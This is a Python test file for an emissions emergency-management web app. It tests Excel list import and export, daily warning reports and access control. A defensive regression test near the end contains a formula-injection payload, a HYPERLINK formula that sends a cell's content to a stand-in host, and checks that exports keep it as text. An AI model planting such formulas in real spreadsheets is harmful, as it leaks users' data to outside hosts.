"""The list's Excel exchange (every problem listed, nothing saved), the daily report, and what each
kind of user sees of sheets, lists and reports."""

import datetime as dt
from decimal import Decimal

import polars as pl
import pytest
from django.urls import reverse

from gongjian.core.problems import InvalidInput
from gongjian.emergency import daily_report, exchange
from gongjian.emergency.models import Measure, WarningAction, WarningEpisode
from gongjian.emergency.removal import account
from gongjian.sources.models import DailyEmission
from gongjian.sources.services import whole_society_totals

C = exchange.COLUMNS
TZ = dt.timezone(dt.timedelta(hours=8))


def _write(tmp_path, rows):
    path = tmp_path / "list.xlsx"
    pl.DataFrame(rows, schema={c: pl.String for c in C.values()}).write_excel(path)
    return path


def _row(**values):
    return {C[k]: values.get(k) for k in C}


def test_bad_rows_are_all_listed_and_nothing_is_saved(tmp_path, plants, draft):
    kept = Measure.objects.create(reduction_list=draft, level="orange", kind="stop", enterprise=plants["e1"].enterprise)
    path = _write(tmp_path, [
        _row(level="紫色", enterprise="甲建材有限公司", kind="停产"),
        _row(level="橙色", enterprise="不存在的公司", kind="停产"),
        _row(level="橙色", enterprise="甲建材有限公司", kind="限产", load="120"),
        _row(level="橙色", enterprise="甲建材有限公司", kind="停产", unit="没有的单元"),
        _row(level="红色", enterprise="甲建材有限公司", kind="停产", so2="-1"),
        _row(level="红色", enterprise="甲建材有限公司", kind="停产", unit="窑尾", nox="301"),
        _row(level="红色", enterprise="甲建材有限公司", kind="停产生产线", lines="9号线"),
        _row(level="红色", enterprise="甲建材有限公司", kind="关停"),
        _row(level="黄色", site="没有的工地", kind="停止土石方作业"),
        _row(level="橙色", enterprise="甲建材有限公司", kind="限产", load="60"),  # a good row
    ])
    with pytest.raises(InvalidInput) as caught:
        exchange.import_list(draft, path)
    found = [str(p) for p in caught.value.problems]
    expected = [("row 2", C["level"], "unknown level"), ("row 3", C["enterprise"], "unknown enterprise"),
                ("row 4", C["load"], "outside 0-100"), ("row 5", C["unit"], "no emission unit"),
                ("row 6", C["so2"], "negative"), ("row 7", C["nox"], "above the source's emissions"),
                ("row 8", C["lines"], "no line"), ("row 9", C["kind"], "unknown measure"),
                ("row 10", C["site"], "unknown construction site")]
    for row, column, text in expected:
        assert any(row + "," in f and column in f and text in f for f in found), (row, text, found)
    assert len(found) == len(expected)
    assert list(draft.measures.all()) == [kept]


def test_an_exported_list_imports_back_the_same(tmp_path, plants, draft, standard):
    e1, site = plants["e1"], plants["site"]
    Measure.objects.create(reduction_list=draft, level="yellow", kind="site_earthwork", site=site)
    Measure.objects.create(reduction_list=draft, level="orange", kind="limit", enterprise=e1.enterprise, unit=e1.kiln,
                           load_percent=Decimal("60"))
    m = Measure.objects.create(reduction_list=draft, level="red", kind="stop_lines", enterprise=e1.enterprise)
    m.lines.set([e1.line1])
    totals = whole_society_totals(draft.region, 2019)
    before = account(draft, standard, totals)
    path = tmp_path / "out.xlsx"
    exchange.export_table(before).write_excel(path)
    assert exchange.import_list(draft, path) == 3
    after = account(draft, standard, totals)
    assert after.achieved == before.achieved


def test_daily_report_marks_not_reported_and_breaches(world, plants, draft, standard):
    e1, e2 = plants["e1"].enterprise, plants["e2"].enterprise
    Measure.objects.create(reduction_list=draft, level="orange", kind="stop", enterprise=e1)
    Measure.objects.create(reduction_list=draft, level="orange", kind="limit", enterprise=e2, load_percent=Decimal("50"))
    start = dt.datetime(2026, 11, 20, 20, tzinfo=TZ)
    episode = WarningEpisode.objects.create(region=world.regions["city"], level="orange", started_at=start,
                                            standard=standard, reduction_list=draft)
    WarningAction.objects.create(warning=episode, kind="issue", level_to="orange", at=start,
                                 decided_by=world.people["city_office"], reason="r")
    day = dt.date(2026, 11, 21)
    DailyEmission.objects.create(enterprise=e1, date=day, source="cems", production="normal", load_percent=100)
    level, rows = daily_report.report_rows(episode, day)
    assert level == "orange"
    by_name = {r.enterprise.name: r for r in rows}
    assert by_name["甲建材有限公司"].in_line is False and "required to stop" in by_name["甲建材有限公司"].remark
    assert not by_name["乙铸造有限公司"].reported and by_name["乙铸造有限公司"].remark == "not reported"
    assert daily_report.report_rows(episode, dt.date(2026, 11, 19)) == (None, [])


def test_enterprise_sees_only_its_own_sheet_and_county_only_its_enterprises(client, world, plants, draft):
    e1, e2 = plants["e1"].enterprise, plants["e2"].enterprise
    Measure.objects.create(reduction_list=draft, level="orange", kind="stop", enterprise=e1)
    Measure.objects.create(reduction_list=draft, level="orange", kind="stop", enterprise=e2)
    draft.status = "approved"
    draft.save()
    client.force_login(world.people["enterprise_e1"])
    page = client.get(reverse("emergency:sheet", args=[e1.pk]))
    assert page.status_code == 200 and "甲建材有限公司" in page.content.decode()
    assert client.get(reverse("emergency:sheet", args=[e2.pk])).status_code == 404
    assert client.get(reverse("emergency:list", args=[draft.pk])).status_code == 404
    assert client.get(reverse("emergency:sheet", args=[e1.pk]), {"format": "xlsx"}).status_code == 200
    client.force_login(world.people["county_a_office"])
    listing = client.get(reverse("sources:enterprise_list")).content.decode()
    assert "甲建材有限公司" in listing and "乙铸造有限公司" not in listing
    assert client.get(reverse("emergency:sheet", args=[e2.pk])).status_code == 404
    client.force_login(world.people["city_office"])
    for url in (reverse("emergency:list", args=[draft.pk]), reverse("emergency:export", args=[draft.pk]),
                reverse("emergency:dashboard"), reverse("emergency:notices"), reverse("sources:inventory"),
                reverse("emergency:optimise", args=[draft.pk, "orange"])):
        assert client.get(url).status_code == 200, url


def _formula_cells(xlsx: bytes) -> list[str]:
    """The formulas (``<f>`` elements) and inline-typed cells of every sheet of a workbook."""
    import io
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())]


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, world, plants, draft, standard):
    """Formula injection: an organisation named ``=HYPERLINK(...)`` through the API became a live formula
    in the city's list export; every spreadsheet now goes through one writer that keeps text as text."""
    import io

    attack = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
    client.force_login(world.people["city_office"])
    organisation = world.organisations["e1"]
    api = client.patch(f"/api/organisations/{organisation.pk}/", {"name": attack}, content_type="application/json")
    assert api.status_code == 200
    Measure.objects.create(reduction_list=draft, level="orange", kind="stop", enterprise=plants["e1"].enterprise)
    response = client.get(reverse("emergency:export", args=[draft.pk]))
    assert response.status_code == 200 and _formula_cells(response.content) == []
    cells = pl.read_excel(io.BytesIO(response.content), sheet_name="减排措施", engine="calamine")
    assert attack in cells.to_series(0).to_list() or attack in {v for c in cells.columns for v in cells[c].to_list()}


def test_the_csv_writer_defuses_formulas(tmp_path):
    from gongjian.core.exports import write_table

    path = tmp_path / "out.csv"
    write_table(pl.DataFrame({"name": ["=1+1", "+A1", "-2", "@SUM(A1)", "甲公司"], "value": [-1.5, 2.0, 3.0, 4.0, 5.0]}),
                path)
    text = path.read_text(encoding="utf-8").splitlines()
    assert text[1:] == ["'=1+1,-1.5", "'+A1,2.0", "'-2,3.0", "'@SUM(A1),4.0", "甲公司,5.0"]
